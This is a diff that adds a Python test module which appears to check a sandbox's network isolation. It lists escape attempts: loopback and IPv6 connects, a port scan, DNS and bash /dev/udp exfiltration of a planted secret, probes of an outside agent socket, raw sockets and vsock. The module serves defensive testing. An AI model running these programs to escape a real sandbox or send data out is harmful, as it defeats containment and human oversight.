@@ -1,0 +1,96 @@
+"""Getting something out, or in, over a network or a socket."""
+
+from __future__ import annotations
+
+from typing import Final
+
+from tests.capabilities.sandbox.attacks.scene import Attack, Outcome, Scene, leaked
+
+_CONNECT: Final = """
+import socket
+line = socket.socket({family}); line.settimeout(2); line.connect({address}); print(line.recv(100).decode())
+"""
+_DNS: Final = """
+import socket
+names = b"".join(bytes([len(name)]) + name for name in (b"PLANTED-7c1f4e", b"example", b"org", b""))
+query = bytes.fromhex("123401000001000000000000") + names + bytes.fromhex("00010001")
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", @names@))
+"""
+_OPEN: Final = "import socket; socket.socket({}); print('REACHED')"
+_INTERFACES: Final = "import socket; print('REACHED' if [n for _, n in socket.if_nameindex() if n != 'lo'] else 'no')"
+_SCAN: Final = """
+import socket
+for port in range(@port@ - 5, @port@ + 6):
+    line = socket.socket(); line.settimeout(0.2)
+    if line.connect_ex(("127.0.0.1", port)) == 0:
+        print("REACHED")
+"""
+
+
+def _connect(family: str, address: str) -> str:
+    return _CONNECT.format(family=family, address=address)
+
+
+def asked(scene: Scene, _: Outcome) -> bool:
+    """Whether the name server got a query with the secret in it."""
+    return any(b"PLANTED" in query for query in scene.asked)
+
+
+NETWORK: Final = (
+    Attack(
+        name="a server of the host",
+        program=_connect("socket.AF_INET", "('127.0.0.1', @port@)"),
+        python=True,
+        sign=leaked,
+    ),
+    Attack(
+        name="a server of the host by IPv6",
+        program=_connect("socket.AF_INET6", "('::ffff:127.0.0.1', @port@)"),
+        python=True,
+        sign=leaked,
+    ),
+    Attack(
+        name="a server by the zero address",
+        program=_connect("socket.AF_INET", "('0.0.0.0', @port@)"),
+        python=True,
+        sign=leaked,
+    ),
+    Attack(name="a scan of ports", program=_SCAN, python=True),
+    Attack(name="a query to a name server", program=_DNS, python=True, sign=asked),
+    Attack(
+        name="a query by bash",
+        program="bash -c 'printf PLANTED >/dev/udp/127.0.0.1/@names@'",
+        sign=asked,
+        needs="/bin/bash",
+    ),
+    Attack(
+        name="a socket file outside",
+        program=_connect("socket.AF_UNIX", "'@base@/agent.sock'"),
+        python=True,
+        sign=leaked,
+    ),
+    Attack(
+        name="a socket file in the workspace",
+        program=_connect("socket.AF_UNIX", "'dev.sock'"),
+        python=True,
+        sign=leaked,
+    ),
+    Attack(
+        name="a socket without a file", program=_connect("socket.AF_UNIX", "'\\0@abstract@'"), python=True, sign=leaked
+    ),
+    Attack(name="the host's interfaces", program=_INTERFACES, python=True, needs="/sys/class/net/eth0"),
+    Attack(name="raw packets", program=_OPEN.format("socket.AF_INET, socket.SOCK_RAW, 1"), python=True, needs="root"),
+    Attack(name="frames", program=_OPEN.format("17, socket.SOCK_RAW"), python=True, needs="root"),
+    Attack(
+        name="the virtual machine's host",
+        program=_OPEN.format("40, socket.SOCK_STREAM"),
+        python=True,
+        needs="/dev/vsock",
+    ),
+    Attack(
+        name="the kernel's cryptography",
+        program=_OPEN.format("38, socket.SOCK_SEQPACKET"),
+        python=True,
+        needs="/sys/module/af_alg",
+    ),
+)
